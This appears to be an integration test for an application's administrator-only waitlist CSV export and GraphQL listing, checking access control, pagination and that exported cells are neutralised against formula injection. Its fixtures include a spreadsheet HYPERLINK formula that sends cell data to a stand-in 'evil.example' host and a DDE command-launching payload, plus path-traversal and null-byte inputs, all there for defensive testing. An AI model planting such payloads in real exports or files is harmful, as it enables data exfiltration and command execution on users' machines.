import { randomUUID } from 'node:crypto';
import { Writable } from 'node:stream';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { pino } from 'pino';
import { z } from 'zod';
import { eventMetadata } from '../../../schema/events/eventMetadata.ts';
import { eventually } from '../../platform/eventStore/contract/eventually.ts';
import type { RecordedEvent } from '../../platform/eventStore/port.ts';
import { signInAsAdministrator } from '../../../tests/support/administrator.ts';
import { postTo } from '../../../tests/support/callApi.ts';
import { postGraphql } from '../../../tests/support/graphqlClient.ts';
import { mailTo, signUpAs, tokenIn } from '../../../tests/support/mailbox.ts';
import { startTestCandor, type TestCandor } from '../../../tests/support/startTestCandor.ts';

const EXPORT = '/api/admin/signups/waitlist/export';
const DISPOSITION = /^attachment; filename="?candor_waitlist\.csv"?$/;
const COLUMNS =
  'status,email,first_name,last_name,company,company_size,wants_updates,requested_at,confirmed_at,withdrawn_at';
const LIST = `query ($list: SignupList!, $first: Int! = 50, $after: String) {
  signups(list: $list, first: $first, after: $after) {
    nodes { id name email company companySize wantsUpdates status requestedAt confirmedAt withdrawnAt }
    counts { requested confirmed withdrawn } endCursor hasMore
  }
}`;

interface Listed {
  readonly signups: {
    readonly nodes: readonly Readonly<Record<string, unknown>>[];
    readonly counts: unknown;
    readonly endCursor: string | null;
    readonly hasMore: boolean;
  };
}

describe('The lists for administrators', () => {
  let candor: TestCandor;
  let admin: string;
  let logged = '';
  const people = {
    kim: { email: 'kim@corner-shop.example', company: '=HYPERLINK("https://evil.example?"&A1,"Shop")' },
    sam: { email: 'sam@corner-shop.example', company: "@SUM(1+9)*cmd|' /C calc'!A0" },
    eve: { email: 'eve@corner-shop.example', company: 'Gone' },
    ada: { email: 'ada@corner-shop.example', company: 'a "b", c\r\n-1+1' },
  };

  before(async () => {
    const sink = new Writable({
      write: (chunk, _encoding, done) => {
        logged += String(chunk);
        done();
      },
    });
    candor = await startTestCandor({ lab: false, log: pino({ level: 'info' }, sink) });
    admin = await signInAsAdministrator(candor);
    for (const { email, company } of Object.values(people)) {
      const form = {
        first_name: '+Kim',
        last_name: 'Größe 信頼',
        email,
        company,
        company_size: '11-50',
        wants_updates: true,
      };
      await postTo(`${candor.url}/api/business-pro/waitlist`, form);
    }
    await postTo(`${candor.url}/api/signups/confirm`, { token: tokenIn(await mailTo(candor.url, people.kim.email)) });
    const { links } = await mailTo(candor.url, people.sam.email);
    await postTo(`${candor.url}/api/signups/unsubscribe`, {
      token: new URL(links.at(-1) ?? '').searchParams.get('token'),
    });
    await candor.candor.privacy.erase(people.eve.email);
    await eventually('the list knows all of it', async () => {
      const { nodes, counts } = await listed();
      return nodes.length === 3 && JSON.stringify(counts) === '{"requested":1,"confirmed":1,"withdrawn":1}';
    });
  });
  after(() => candor.close());

  const as = (token: string) => ({ authorization: `Bearer ${token}` });
  const ask = (path: string, token?: string, init: RequestInit = {}): Promise<Response> =>
    fetch(`${candor.url}${path}`, { ...init, headers: token === undefined ? {} : as(token) });
  const listed = async (variables: object = {}): Promise<Listed['signups']> => {
    const { data, errors } = await postGraphql<Listed>(candor.url, LIST, { list: 'WAITLIST', ...variables }, as(admin));
    if (!data) throw new Error(JSON.stringify(errors));
    return data.signups;
  };

  it('are exported as a CSV file to an administrator, without erased people, and with no formula in a cell', async () => {
    const response = await ask(EXPORT, admin);
    expect(response.status).to.equal(200);
    expect(response.headers.get('content-disposition')).to.match(DISPOSITION);
    expect(response.headers.get('content-type')).to.match(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('cache-control')).to.equal('no-store');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.startsWith(`${COLUMNS}\r\n`)).to.equal(true);

    const data = parse(text, { bom: true, columns: true }) as readonly Record<string, string>[];
    expect(data.map((row) => [row['status'], row['email'], row['company']])).to.deep.equal([
      ['confirmed', people.kim.email, `'${people.kim.company}`],
      ['withdrawn', people.sam.email, `'${people.sam.company}`],
      ['requested', people.ada.email, people.ada.company],
    ]);
    for (const row of data) {
      expect(row).to.include({
        first_name: "'+Kim",
        last_name: 'Größe 信頼',
        company_size: '11-50',
        wants_updates: 'yes',
      });
      expect(Date.parse(row['requested_at'] ?? '')).to.be.closeTo(Date.now(), 3_600_000);
      expect([row['confirmed_at'] !== '', row['withdrawn_at'] !== '']).to.deep.equal([
        row['status'] === 'confirmed',
        row['status'] === 'withdrawn',
      ]);
    }
    expect(text).not.to.include(people.eve.email);
  });

  it('are a header row if nobody has signed up, and only headers for a HEAD request', async () => {
    const empty = await (await ask('/api/admin/signups/newsletter/export', admin)).text();
    expect(empty.replace(/^\uFEFF/, '')).to.equal(`${COLUMNS}\r\n`);
    const head = await ask(EXPORT, admin, { method: 'HEAD' });
    expect(head.status).to.equal(200);
    expect(head.headers.get('content-disposition')).to.match(DISPOSITION);
  });

  it('are available to nobody else, and only two of them exist', async () => {
    const account = await signUpAs(candor.url, 'owner@harbour-bank.example');
    for (const [token, status] of [
      [undefined, 401],
      ['A'.repeat(43), 401],
      [account, 403],
    ] as const)
      expect((await ask(EXPORT, token)).status, token).to.equal(status);
    for (const list of ['people', 'WAITLIST', '..%2Fwaitlist', "'", '%00']) {
      const response = await ask(`/api/admin/signups/${list}/export`, admin);
      expect([response.status, await response.json()], list).to.deep.equal([404, { detail: 'There is no such list.' }]);
    }
    expect((await ask(EXPORT, admin, { method: 'POST' })).status).to.equal(405);
  });

  it('are available in pages over GraphQL, newest first', async () => {
    const [first, ...rest] = (await listed()).nodes;
    expect(first).to.include({
      name: '+Kim Größe 信頼',
      email: people.ada.email,
      company: people.ada.company,
      companySize: '11-50',
      wantsUpdates: true,
      status: 'REQUESTED',
      confirmedAt: null,
    });
    expect(rest.map(({ status }) => status)).to.deep.equal(['WITHDRAWN', 'CONFIRMED']);
    const seen: unknown[] = [];
    let after: string | null = null;
    do {
      const page: Listed['signups'] = await listed({ first: 1, after });
      seen.push(...page.nodes.map(({ email }) => email));
      after = page.hasMore ? page.endCursor : null;
    } while (after !== null);
    expect(seen).to.deep.equal([people.ada.email, people.sam.email, people.kim.email]);
    const wrong = await postGraphql(candor.url, LIST, { list: 'WAITLIST', after: 'x' }, as(admin));
    expect(wrong.errors?.[0]?.extensions?.code).to.equal('BAD_USER_INPUT');
    const nobody = await postGraphql(candor.url, LIST, { list: 'WAITLIST' });
    expect(nobody.errors?.[0]?.extensions?.code).to.equal('UNAUTHENTICATED');
  });

  it('allow a client to disconnect in the middle without a failure, and the next export is complete', async () => {
    let recorded: RecordedEvent | undefined;
    for await (const event of candor.store.readAll({ filter: { types: ['SignupRequested'] } })) recorded ??= event;
    const { data, metadata } = z.object({ data: z.looseObject({}), metadata: eventMetadata }).parse(recorded);
    for (let batch = 0; batch < 10; batch += 1) {
      const more = Array.from({ length: 1_000 }, () => ({
        id: randomUUID(),
        type: 'SignupRequested',
        version: 1,
        // For one person, so that one key decrypts all.
        data: { ...data, signupId: randomUUID(), list: 'newsletter' },
        metadata,
      }));
      await candor.store.append(`signup-${randomUUID()}`, more, 'any');
    }
    await eventually('the list knows them', async () => {
      const { counts } = await listed({ list: 'NEWSLETTER' });
      return JSON.stringify(counts).includes('"requested":10000');
    });
    const path = '/api/admin/signups/newsletter/export';
    for (let times = 0; times < 3; times += 1) {
      const stop = new AbortController();
      const response = await ask(path, admin, { signal: stop.signal });
      await response.body?.getReader().read();
      stop.abort();
    }
    expect((await (await ask(path, admin)).text()).split('\r\n')).to.have.lengthOf(10_002);
    expect(logged).not.to.match(/"level":[56]0/);
  });
});
